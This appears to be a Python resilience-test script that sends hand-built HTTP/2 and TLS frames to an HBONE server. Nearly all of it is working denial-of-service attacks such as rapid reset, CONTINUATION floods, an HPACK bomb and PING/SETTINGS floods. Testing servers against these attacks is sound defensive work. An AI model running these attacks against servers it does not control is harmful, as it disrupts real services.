"""Sends one attack on an HBONE server from hand-made frames, bounded in count and time.

Prints one JSON line: how the connection ended (goaway code, tls alert, eof, or still open) and what was sent.
"""

import argparse
import json
import socket
import ssl
import struct
import time

import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              PriorityFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Attack:
    def __init__(self, args):
        self.args = args
        self.encoder = hpack.Encoder()
        self.sent = 0
        self.buffer = b""
        self.goaway = None
        self.resets = {}
        self.statuses = {}
        self.pings = 0
        self.settings_acks = 0
        self.eof = False
        self.error = ""
        host, _, port = args.address.rpartition(":")
        raw = socket.create_connection((host, int(port)), timeout=5)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.raw = raw
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.minimum_version = ssl.TLSVersion.TLSv1_3
        context.check_hostname = False
        context.load_verify_locations(args.root)
        context.load_cert_chain(args.cert, args.key)
        context.set_alpn_protocols(["h2"])
        self.tls = None if args.name.startswith("tls-") else context.wrap_socket(raw)

    def raw_send(self, data):
        self.sent += 1
        try:
            self.tls.settimeout(5)
            self.tls.sendall(data)
            return True
        except (OSError, ssl.SSLError) as error:
            self.error = str(error)
            return False

    def frame(self, frame):
        return self.raw_send(frame.serialize())

    def start(self):
        self.raw_send(PREFACE + SettingsFrame(0).serialize())
        self.poll(0.2)
        self.raw_send(SettingsFrame(0, flags=["ACK"]).serialize())

    def connect_block(self, authority=None):
        self.encoder.header_table_size = 0
        return self.encoder.encode([(":method", "CONNECT"), (":authority", authority or self.args.authority)])

    def connect(self, stream, end=False, authority=None):
        flags = ["END_HEADERS"] + (["END_STREAM"] if end else [])
        return HeadersFrame(stream, self.connect_block(authority), flags=flags).serialize()

    def poll(self, seconds):
        """Reads whatever comes for up to `seconds`; true while the connection lives."""
        deadline = time.monotonic() + seconds
        while not self.eof:
            left = deadline - time.monotonic()
            if left <= 0:
                break
            self.tls.settimeout(left)
            try:
                data = self.tls.recv(65536)
            except (TimeoutError, ssl.SSLWantReadError):
                break
            except (OSError, ssl.SSLError) as error:
                self.error = self.error or str(error)
                self.eof = True
                break
            if not data:
                self.eof = True
                break
            self.buffer += data
            self.parse()
        return not self.eof

    def parse(self):
        while len(self.buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
            if len(self.buffer) < 9 + length:
                return
            frame.parse_body(memoryview(self.buffer[9:9 + length]))
            self.buffer = self.buffer[9 + length:]
            if isinstance(frame, GoAwayFrame):
                self.goaway = frame.error_code
            elif isinstance(frame, RstStreamFrame):
                self.resets[frame.error_code] = self.resets.get(frame.error_code, 0) + 1
            elif isinstance(frame, PingFrame) and "ACK" in frame.flags:
                self.pings += 1
            elif isinstance(frame, SettingsFrame) and "ACK" in frame.flags:
                self.settings_acks += 1
            elif isinstance(frame, HeadersFrame):
                status = dict(hpack.Decoder().decode(bytes(frame.data))).get(":status", "?")
                self.statuses[status] = self.statuses.get(status, 0) + 1

    def many(self, count, make, batch=100):
        """Sends make(i) for i in range(count) in batches, until the peer hangs up."""
        for begin in range(0, count, batch):
            data = b"".join(make(i) for i in range(begin, min(count, begin + batch)))
            if not self.raw_send(data) or not self.poll(0.001):
                return

    # --- the attacks -------------------------------------------------------------------------------------------

    def rapid_reset(self):
        self.start()
        self.many(6000, lambda i: self.connect(2 * i + 1) + RstStreamFrame(2 * i + 1, error_code=8).serialize())

    def made_you_reset(self):
        self.start()
        self.many(12000, lambda i: self.connect(2 * i + 1)
                  + b"\x00\x00\x04\x08\x00" + struct.pack(">II", 2 * i + 1, 0))

    def continuation_flood(self):
        self.start()
        self.frame(HeadersFrame(1, self.connect_block()))
        block = hpack.Encoder().encode([("x-fill", "y" * 100)], huffman=False)
        self.many(5000, lambda i: ContinuationFrame(1, block).serialize(), batch=1)

    def continuation_empty(self):
        self.start()
        self.frame(HeadersFrame(1, b""))
        self.many(20000, lambda i: ContinuationFrame(1, b"").serialize())

    def unfinished_headers(self):
        self.start()
        self.frame(HeadersFrame(1, self.connect_block()))
        self.poll(self.args.seconds)

    def hpack_bomb(self):
        self.start()
        big = b"z" * 4000
        # A literal with indexing, then thousands of one-byte references to it.
        literal = b"\x40\x01a\x7f" + hpack.hpack.encode_integer(len(big), 7)[1:] + big
        block = self.connect_block() + literal + b"\xbe" * 12000
        self.frame(HeadersFrame(1, block, flags=["END_HEADERS"]))

    def header_count(self):
        self.start()
        self.many(50, lambda i: HeadersFrame(
            2 * i + 1, self.connect_block() + b"\x90" * 8000, flags=["END_HEADERS"]).serialize(), batch=1)

    def cookie_crumbs(self):
        self.start()
        crumb = b"\x00\x06cookie\x03a=b"
        self.frame(HeadersFrame(1, self.connect_block() + crumb * 1200, flags=["END_HEADERS"]))

    def settings_flood(self):
        self.start()
        frame = SettingsFrame(0, settings={3: 100}).serialize()
        self.many(30000, lambda i: frame)

    def settings_many_entries(self):
        self.start()
        self.raw_send(struct.pack(">I", 6 * 2000)[1:] + b"\x04\x00" + struct.pack(">I", 0)
                      + struct.pack(">HI", 0xf000, 1) * 2000)

    def ping_flood(self):
        self.start()
        frame = PingFrame(0, opaque_data=b"12345678").serialize()
        self.many(30000, lambda i: frame)

    def rst_flood(self):
        self.start()
        self.frame_bytes = self.connect(1, end=True)
        self.raw_send(self.frame_bytes)
        frame = RstStreamFrame(1, error_code=8).serialize()
        self.many(30000, lambda i: frame)

    def empty_data(self):
        self.start()
        self.raw_send(self.connect(1))
        self.poll(0.3)
        frame = DataFrame(1, b"").serialize()
        self.many(60000, lambda i: frame)

    def zero_length_headers(self):
        self.start()
        block = self.connect_block() + b"\x00\x00\x00"
        self.many(6000, lambda i: HeadersFrame(2 * i + 1, block, flags=["END_HEADERS"]).serialize())

    def priority_churn(self):
        self.start()
        self.many(100000, lambda i: PriorityFrame(2 * i + 1, depends_on=0, stream_weight=10).serialize(), batch=500)

    def window_overflow(self):
        self.start()
        self.frame(WindowUpdateFrame(0, window_increment=0x7fffffff))

    def window_zero(self):
        self.start()
        self.raw_send(b"\x00\x00\x04\x08\x00" + struct.pack(">II", 0, 0))

    def data_on_idle(self):
        self.start()
        self.frame(DataFrame(7, b"x"))

    def oversized_frame(self):
        self.start()
        self.raw_send(b"\xff\xff\xff\x00\x00" + struct.pack(">I", 1) + b"x" * 100000)

    def bad_preface(self):
        self.raw_send(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")

    def stream_flood(self):
        self.start()
        self.many(2000, lambda i: self.connect(2 * i + 1))

    def window_dribble(self):
        """Opens a stream whose answers may only come one byte at a time."""
        self.raw_send(PREFACE + SettingsFrame(0, settings={4: 1}).serialize())
        self.poll(0.2)
        self.raw_send(SettingsFrame(0, flags=["ACK"]).serialize() + self.connect(1))
        self.poll(0.3)
        self.many(3000, lambda i: WindowUpdateFrame(1, window_increment=1).serialize(), batch=1)

    def continue_after_goaway(self):
        self.start()
        self.raw_send(b"\x00\x00\x04\x08\x00" + struct.pack(">II", 0, 0))
        self.many(500, lambda i: self.connect(2 * i + 1))

    def tls_silent(self):
        self.wait_raw()

    def tls_half_hello(self):
        self.raw.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
        self.wait_raw()

    def tls_garbage(self):
        self.raw.sendall(b"\x80" * 4096)
        self.wait_raw()

    def tls_empty_records(self):
        self.raw.sendall(b"\x16\x03\x03\x00\x00" * 2000)
        self.wait_raw()

    def wait_raw(self):
        self.raw.settimeout(self.args.seconds)
        try:
            while self.raw.recv(65536):
                pass
            self.eof = True
        except TimeoutError:
            pass
        except OSError as error:
            self.error = str(error)
            self.eof = True


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("name")
    parser.add_argument("--address", required=True)
    parser.add_argument("--authority", required=True)
    parser.add_argument("--cert", required=True)
    parser.add_argument("--key", required=True)
    parser.add_argument("--root", required=True)
    parser.add_argument("--seconds", type=float, default=12, help="how long to wait for the end")
    args = parser.parse_args()
    begin = time.monotonic()
    attack = Attack(args)
    getattr(attack, args.name.replace("-", "_"))()
    if attack.tls is not None:
        attack.poll(min(args.seconds, 3))
    print(json.dumps({
        "eof": attack.eof, "goaway": attack.goaway, "resets": attack.resets, "statuses": attack.statuses,
        "error": attack.error, "sent": attack.sent, "seconds": round(time.monotonic() - begin, 2),
    }))


if __name__ == "__main__":
    main()
